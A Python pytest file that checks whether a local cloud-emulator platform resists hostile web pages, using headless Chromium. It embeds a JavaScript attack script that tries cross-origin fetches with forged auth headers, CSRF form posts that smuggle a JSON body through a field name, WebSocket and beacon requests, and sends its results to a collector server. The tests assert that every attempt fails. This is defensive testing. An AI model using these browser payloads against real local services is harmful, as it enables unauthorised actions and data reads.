"""A real browser opens a hostile page beside a running platform: nothing is created and nothing can be read.

Two pages attack: one from another port of this machine, and one that a tenant's function serves on the platform's own
host. The control in the same page reads a function URL that allows every origin, so that a silent browser is no proof.
Needs Chromium, which `tests/install.sh` installs; skipped loudly without.
"""

import base64
import http.server
import json
import os
import shutil
import signal
import subprocess
import tempfile
import threading

import pytest

from chaos.servers import Server, package, runtimes, wait_until

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)

pytestmark = pytest.mark.skipif(
    CHROMIUM is None, reason="NO CHROMIUM: the attacks in a real browser were not tried; apt-get install chromium"
)

#: Runs in both pages. `attempt` notes whether the page could read an answer.
ATTACK = """
const body = JSON.stringify({FunctionName: "stolen", Runtime: RUNTIME, Handler: "main.handler",
  Role: "arn:aws:iam::000000000000:role/test", Code: {ZipFile: ZIP}});
const results = {};
const attempt = async (name, action) => {
  try { results[name] = "READ " + (await action()); } catch (error) { results[name] = "failed " + error; }
};
const read = async (path, options) => {
  const answer = await fetch(PLATFORM + path, options);
  if (answer.type === "opaque") throw new Error("opaque");
  return answer.status;
};
const text = {"Content-Type": "text/plain"}, key = {Authorization: "AWS4-HMAC-SHA256 Credential=test/20250101/us-east-1/lambda/aws4_request, SignedHeaders=host, Signature=0"};
const within = (promise) => Promise.race([promise, new Promise((_, no) => setTimeout(() => no(new Error("silence")), 4000))]);
const socket = (path) => within(new Promise((yes, no) => {
  const one = new WebSocket(PLATFORM.replace("http", "ws") + path);
  one.onopen = () => yes("open"); one.onerror = () => no(new Error("closed"));
}));
const element = (tag, properties) => within(new Promise((yes, no) => {
  const made = Object.assign(document.createElement(tag), properties);
  made.onload = () => yes("loaded"); made.onerror = () => no(new Error("not loaded"));
  document.documentElement.append(made);
}));
const form = (path, type) => {
  const frame = Object.assign(document.createElement("iframe"), {name: "sink" + Math.random()});
  document.documentElement.append(frame);
  const made = Object.assign(document.createElement("form"),
    {method: "POST", action: PLATFORM + path, enctype: type, target: frame.name});
  made.append(Object.assign(document.createElement("input"), {name: body.slice(0, -1) + ',"x":"', value: '"}'}));
  document.documentElement.append(made);
  return within(new Promise((yes, no) => { frame.onload = () => no(new Error("sent")); made.submit(); }));
};
(async () => {
  await attempt("control", () => fetch(CONTROL).then((answer) => answer.text()));
  await attempt("post", () => read("/2015-03-31/functions", {method: "POST", body, headers: text}));
  await attempt("post without asking", () => read("/2015-03-31/functions", {method: "POST", body, mode: "no-cors"}));
  await attempt("post with a key", () => read("/2015-03-31/functions", {method: "POST", body, headers: key}));
  await attempt("list with a key", () => read("/2015-03-31/functions", {headers: key}));
  await attempt("list", () => read("/2015-03-31/functions", {credentials: "include"}));
  await attempt("admin", () => read("/_dunlin/ps", {}));
  await attempt("admin with a key", () => read("/_dunlin/ps", {headers: key}));
  await attempt("tables", () => read("/", {method: "POST", body: "{}", headers: {"X-Amz-Target": "DynamoDB_20120810.ListTables"}}));
  await attempt("script", () => element("script", {src: PLATFORM + "/_dunlin/ps"}));
  await attempt("image", () => element("img", {src: PLATFORM + "/2015-03-31/functions"}));
  await attempt("socket", () => socket("/"));
  await attempt("admin socket", () => socket("/_dunlin/ps"));
  await attempt("form", () => form("/2015-03-31/functions", "text/plain"));
  await attempt("plain form", () => form("/2015-03-31/functions", "application/x-www-form-urlencoded"));
  navigator.sendBeacon(PLATFORM + "/2015-03-31/functions", body);
  results.origin = self.origin;
  await fetch(COLLECTOR, {method: "POST", mode: "no-cors", body: JSON.stringify(results)});
})();
"""

OPEN_CODE = "def handler(event, context):\n    return 'open'\n"


class Collector(http.server.ThreadingHTTPServer):
    """The hostile page's own server: gives the page and takes what it found."""

    def __init__(self):
        super().__init__(("127.0.0.1", 0), CollectorHandler)
        self.page, self.found = "", []
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def url(self):
        return f"http://localhost:{self.server_port}"


class CollectorHandler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        page = self.server.page.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(page)))
        self.end_headers()
        self.wfile.write(page)

    def do_POST(self):
        self.server.found.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_):
        pass


@pytest.fixture(scope="module")
def collector():
    with Collector() as running:
        yield running
        running.shutdown()


@pytest.fixture(scope="module")
def platform():
    with Server("dev") as running:
        yield running.start()


def attack(server, collector, control):
    """The attack's script, filled in."""
    values = {
        "RUNTIME": runtimes(server)["python"], "PLATFORM": f"http://localhost:{server.port}", "CONTROL": control,
        "COLLECTOR": collector.url, "ZIP": base64.b64encode(package(main__py=OPEN_CODE)).decode(),
    }
    constants = "".join(f"const {name} = {json.dumps(value)};\n" for name, value in values.items())
    return f"<!doctype html><title>x</title><script>{constants}{ATTACK}</script>"


def browse(url, collector):
    """Opens a page and answers what it reported."""
    collector.found.clear()
    profile = tempfile.mkdtemp(prefix="dunlin-test-browser-")
    command = [
        CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--no-proxy-server",
        "--remote-debugging-port=0", f"--user-data-dir={profile}", url,
    ]
    with open(os.path.join(profile, "output"), "wb") as output:
        browser = subprocess.Popen(command, stdout=output, stderr=output, start_new_session=True)
    try:
        wait_until(lambda: f"the page reports; {open(os.path.join(profile, 'output')).read()[-500:]}",
                   lambda: collector.found, 60)
        return collector.found[0]
    finally:
        os.killpg(browser.pid, signal.SIGKILL)
        browser.wait()
        shutil.rmtree(profile, ignore_errors=True)


def open_url(server):
    """A function URL, in path form, that every origin may read."""
    if "open" not in {entry["FunctionName"] for entry in server.client("lambda").list_functions()["Functions"]}:
        server.create("open", OPEN_CODE, runtimes(server)["python"])
        server.client("lambda").create_function_url_config(
            FunctionName="open", AuthType="NONE", Cors={"AllowOrigins": ["*"]}
        )
        server.open_url("open")
    url = server.client("lambda").get_function_url_config(FunctionName="open")["FunctionUrl"]
    identity = url.split("/")[2].split(".")[0]
    return f"http://localhost:{server.port}/_dunlin/url/{identity}/"


def assert_harmless(server, found):
    origin, control = found.pop("origin"), found.pop("control")
    assert control == "READ open", "the control: the browser reaches the platform"
    assert {name: result for name, result in found.items() if result.startswith("READ")} == {}
    assert len(found) == 14, found
    functions = {entry["FunctionName"] for entry in server.client("lambda").list_functions()["Functions"]}
    assert "stolen" not in functions
    return origin


def test_a_page_of_another_port_does_nothing(platform, collector):
    collector.page = attack(platform, collector, open_url(platform))
    origin = assert_harmless(platform, browse(collector.url, collector))
    assert origin == collector.url


def test_a_tenants_page_on_the_platforms_own_host_does_nothing(platform, collector):
    page = attack(platform, collector, open_url(platform))
    code = f"PAGE = {json.dumps(page)}\ndef handler(event, context):\n" \
           "    return {'statusCode': 200, 'headers': {'content-type': 'text/html'}, 'body': PAGE}\n"
    platform.create("page", code, runtimes(platform)["python"])
    url = platform.client("lambda").create_function_url_config(FunctionName="page", AuthType="NONE")["FunctionUrl"]
    platform.open_url("page")
    identity = url.split("/")[2].split(".")[0]
    origin = assert_harmless(
        platform, browse(f"http://localhost:{platform.port}/_dunlin/url/{identity}/", collector)
    )
    assert origin == "null", "the page has an origin of its own"
